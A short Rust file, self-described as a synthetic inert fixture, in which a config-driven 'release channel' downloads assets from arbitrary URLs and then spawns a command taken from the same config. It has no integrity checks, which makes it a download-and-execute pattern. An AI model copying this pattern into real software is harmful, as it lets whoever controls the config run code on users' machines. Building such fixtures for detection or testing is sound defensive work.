// Synthetic, inert fixture written from public reports; see README
//! Release channels with a migration step between them.
use serde::Deserialize;
use std::path::Path;
use std::process::Command;

#[derive(Debug, Deserialize)]
pub(crate) struct Channel {
    assets: Vec<Asset>,
    migrate: Vec<String>,
}

#[derive(Debug, Deserialize)]
struct Asset {
    name: String,
    url: String,
}

impl Channel {
    pub(crate) fn prepare(&self, dir: &Path) -> Option<()> {
        for asset in &self.assets {
            let mut body = ureq::get(&asset.url).call().ok()?.into_reader();
            let mut file = std::fs::File::create(dir.join(&asset.name)).ok()?;
            std::io::copy(&mut body, &mut file).ok()?;
        }
        let (program, rest) = self.migrate.split_first()?;
        Command::new(program).args(rest).current_dir(dir).spawn().ok().map(drop)
    }
}
